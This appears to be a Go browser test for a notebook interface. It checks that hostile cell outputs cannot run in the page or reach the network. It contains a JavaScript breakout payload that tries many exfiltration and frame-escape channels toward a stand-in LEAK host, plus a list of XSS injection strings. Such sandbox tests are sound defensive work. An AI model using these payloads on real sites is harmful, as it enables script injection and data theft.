package browser

import (
	"fmt"
	"net"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"cellblock/internal/words"
)

// breakout is the document of an output that tries all that a page could do to another, or to the network.
const breakout = `<div id=x></div><script>
const leak = 'http://LEAK/';
const tag = (name, attributes) => { const e = Object.assign(document.createElement(name), attributes); document.head.append(e); return e; };
const tries = [
  () => fetch(leak + 'fetch', {mode: 'no-cors'}),
  () => fetch(PAGE).then(r => r.text()).then(t => fetch(leak + t.length)),
  () => new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = leak + 'image'; }),
  () => navigator.sendBeacon(leak + 'beacon', 'x'),
  () => { new WebSocket('ws://LEAK/socket'); },
  () => { new EventSource(leak + 'events'); },
  () => { parent.document.title = 'owned'; },
  () => { parent.owned = true; },
  () => { top.location = leak + 'top'; },
  () => { open(leak + 'open'); },
  () => { document.cookie = 'owned=1'; localStorage.owned = 1; },
  () => { for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender']) tag('link', {rel, href: leak + rel, as: 'script'}); },
  () => { tag('script', {textContent: JSON.stringify({prefetch: [{urls: [leak + 'speculation']}]}), type: 'speculationrules'}); },
  () => { tag('style', {textContent: '@import "' + leak + 'import.css"; body { background: url(' + leak + 'background) }'}); },
  () => { const f = tag('form', {action: leak + 'form', method: 'post'}); f.submit(); },
  () => { tag('iframe', {src: leak + 'frame'}); },
  () => { tag('object', {data: leak + 'object'}); },
  () => { tag('base', {href: leak}); const i = new Image(); i.src = 'base'; },
  () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + leak + "worker', {mode: 'no-cors'})"]))); },
  () => import(leak + 'module.js'),
  () => { tag('a', {href: leak + 'anchor', target: '_top'}).click(); },
  () => { tag('form', {action: leak + 'top-form', target: '_top'}).submit(); },
  () => { tag('embed', {src: leak + 'embed'}); tag('video', {src: leak + 'video', autoplay: true}); },
  () => fetch(leak + 'keepalive', {mode: 'no-cors', keepalive: true}),
  () => { new SharedWorker(leak + 'shared.js'); },
  () => new WebTransport('https://STUN/transport').ready,
  () => { alert('x'); confirm('x'); print(); },
  () => navigator.serviceWorker.register('/x.js'),
  async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}]}); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); },
  () => { for (const height of [1e9, -5, '<b>', null, {}]) parent.postMessage({cellblock: 'height', height}, '*'); parent.postMessage('x', '*'); },
];
(async () => {
  for (const attempt of tries) {
    try { await Promise.race([attempt(), new Promise(done => setTimeout(done, 200))]); } catch {}
  }
  document.getElementById('x').textContent = 'tried';
})();
</script>`

// injections are texts that would run in the page if it took them for HTML. Each says what it would do to the page.
var injections = []string{
	`<script>window.owned=1</script>`, `<img src=x onerror="window.owned=1">`, `</pre></article><script>window.owned=1</script>`, `"><svg onload="window.owned=1">`,
	`<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`, `<style>*{display:none}</style>`, `<a href="javascript:window.owned=1">x</a>`,
}

// Nothing that a cell is or produces runs in the page, and nothing of it gets out of the frame that it may run in.
func TestNothingBreaksOut(t *testing.T) {
	s := shared(t)
	c := s.mcp(t)
	leak := newLeak(t)
	attack := strings.NewReplacer("LEAK", leak.tcp, "STUN", leak.udp, "PAGE", "'"+s.base+"/s/hostile'").Replace(breakout)
	s.python(t, c, "hostile", "from IPython.display import *\nHTML("+quoted(attack)+")")
	s.python(t, c, "hostile", "HTML("+quoted(`<script>addEventListener('load', () => { location = 'http://`+leak.tcp+`/self?x' })</script>`)+")")
	for _, text := range injections {
		q := quoted(text)
		s.python(t, c, "hostile", fmt.Sprintf("# %s\nprint(%s, '\\x1b]8;;javascript:window.owned=1\\x07link\\x1b]8;;\\x07')\ndisplay(Markdown(%s), Latex(%s), JSON({%s: %s}), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>parent.owned=1</script></svg>'))\n"+
			"display({'text/plain': %s, 'image/png': 'iVBORw0KGgo='}, raw=True, metadata={'image/png': {'width': %s}})\ndisplay({'x/'+%s: %s}, raw=True, display_id=%s)\ntry: input(%s)\nexcept Exception: pass\nraise type(%s, (Exception,), {})(%s)", text, q, q, q, q, q, q, q, q, q, q, q, q, q))
	}
	// Each goes to a name of its own, so that what the browser says of it is told from all else.
	leads := strings.NewReplacer("refresh.LEAK", strings.Replace(leak.tcp, "127.0.0.1", "refresh.localhost", 1), "download.LEAK", strings.Replace(leak.tcp, "127.0.0.1", "download.localhost", 1))
	for _, document := range []string{`<meta http-equiv="refresh" content="0;url=http://refresh.LEAK/">`, `<a id=a href="http://download.LEAK/" download>x</a><script>document.getElementById('a').click()</script>`} {
		s.python(t, c, "hostile", "HTML("+quoted(leads.Replace(document))+")")
	}
	for _, text := range injections {
		name := strings.ReplaceAll(text, "/", "") + ".py"
		for _, tool := range []string{"write_file", "execute_file"} {
			arguments := map[string]any{"session_id": "hostile", "path": name}
			if tool == "write_file" {
				arguments["content"] = "1"
			}
			if r, err := c.Call(t.Context(), tool, arguments, nil); err != nil || r.IsError {
				t.Fatalf("%s of %s: %v %s", tool, name, err, r.Text)
			}
		}
	}
	p := s.signIn(t)
	p.expects("") // each attempt is logged
	p.open("/s/hostile")
	p.frame(1).until("document.getElementById('x').textContent === 'tried'")
	p.showCell(2)
	p.hears("frame-src")
	for n := range injections {
		p.untilCell(n+3, "cell.querySelector('.error-name')?.innerText.includes("+quoted(injections[n])+")")
	}
	leading := len(injections) + 3
	p.showCell(leading)
	p.hears("refresh.localhost")
	p.showCell(leading + 1)
	p.hears("download.localhost")
	for i, text := range injections {
		p.untilCell(leading+2+i, "cell.querySelector('.code.script')?.innerText === "+quoted("run "+words.Shell(strings.ReplaceAll(text, "/", "")+".py")))
	}
	p.checkNotOwned()
	if where := eval[string](p, "location.pathname"); where != "/s/hostile" {
		t.Errorf("the page was led to %s", where)
	}
	if high := eval[int](p, "Math.max(...[...document.querySelectorAll('iframe.frame')].map(f => f.offsetHeight))"); high > 4000 {
		t.Errorf("a frame has made itself %d pixels high", high)
	}
	if n := p.count("article script, article style, article svg, article [onerror], article iframe[srcdoc], article a[href^='javascript']"); n != 0 {
		t.Errorf("%d elements that do not belong there", n)
	}
	for _, text := range injections { // as the name of a session, which the answer speaks of
		p.do(chromedp.Navigate(s.base + "/s/" + url.PathEscape(text)))
		p.until("document.readyState === 'complete' && document.body.innerText !== ''")
		p.checkNotOwned()
	}
	if got := leak.connections(); got != "" {
		t.Errorf("something connected: %s", got)
	}
}

// checkNotOwned fails the test if something that an injection does was done to the page.
func (p *tab) checkNotOwned() {
	p.t.Helper()
	if eval[bool](p, "'owned' in window || document.title.includes('owned') || document.cookie !== '' || getComputedStyle(document.body).display === 'none'") {
		p.t.Errorf("something ran in the page %s", eval[string](p, "location.href"))
	}
}

// hears waits until something that the browser has logged of the page has a text in it.
func (p *tab) hears(text string) {
	p.t.Helper()
	tick := time.NewTicker(50 * time.Millisecond)
	defer tick.Stop()
	for deadline := time.Now().Add(patience); time.Now().Before(deadline); <-tick.C {
		p.mu.Lock()
		all := strings.Join(p.problems, "\n")
		p.mu.Unlock()
		if strings.Contains(all, text) {
			return
		}
	}
	p.t.Fatalf("the browser has not said %q", text)
}

// leak is where hostile outputs try to get to.
type leak struct {
	tcp, udp string
	packets  atomic.Int64
	mu       sync.Mutex
	heard    []string
}

func newLeak(t *testing.T) *leak {
	t.Helper()
	l := &leak{}
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l.tcp, l.udp = tcp.Addr().String(), udp.LocalAddr().String()
	var ends sync.WaitGroup
	ends.Go(func() {
		for {
			conn, err := tcp.Accept()
			if err != nil {
				return
			}
			ends.Go(func() { l.hear(conn) })
		}
	})
	ends.Go(func() {
		for buf := make([]byte, 1500); ; l.packets.Add(1) {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
		}
	})
	t.Cleanup(func() {
		tcp.Close()
		udp.Close()
		ends.Wait()
	})
	return l
}

// hear notes what a connection asks for.
func (l *leak) hear(conn net.Conn) {
	defer conn.Close()
	_ = conn.SetReadDeadline(time.Now().Add(time.Second))
	buf := make([]byte, 200)
	n, _ := conn.Read(buf)
	line, _, _ := strings.Cut(string(buf[:n]), "\r\n")
	l.mu.Lock()
	defer l.mu.Unlock()
	l.heard = append(l.heard, fmt.Sprintf("TCP %q", line))
}

func (l *leak) connections() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	if n := l.packets.Load(); n > 0 {
		l.heard = append(l.heard, fmt.Sprintf("%d UDP packets", n))
	}
	return strings.Join(l.heard, ", ")
}
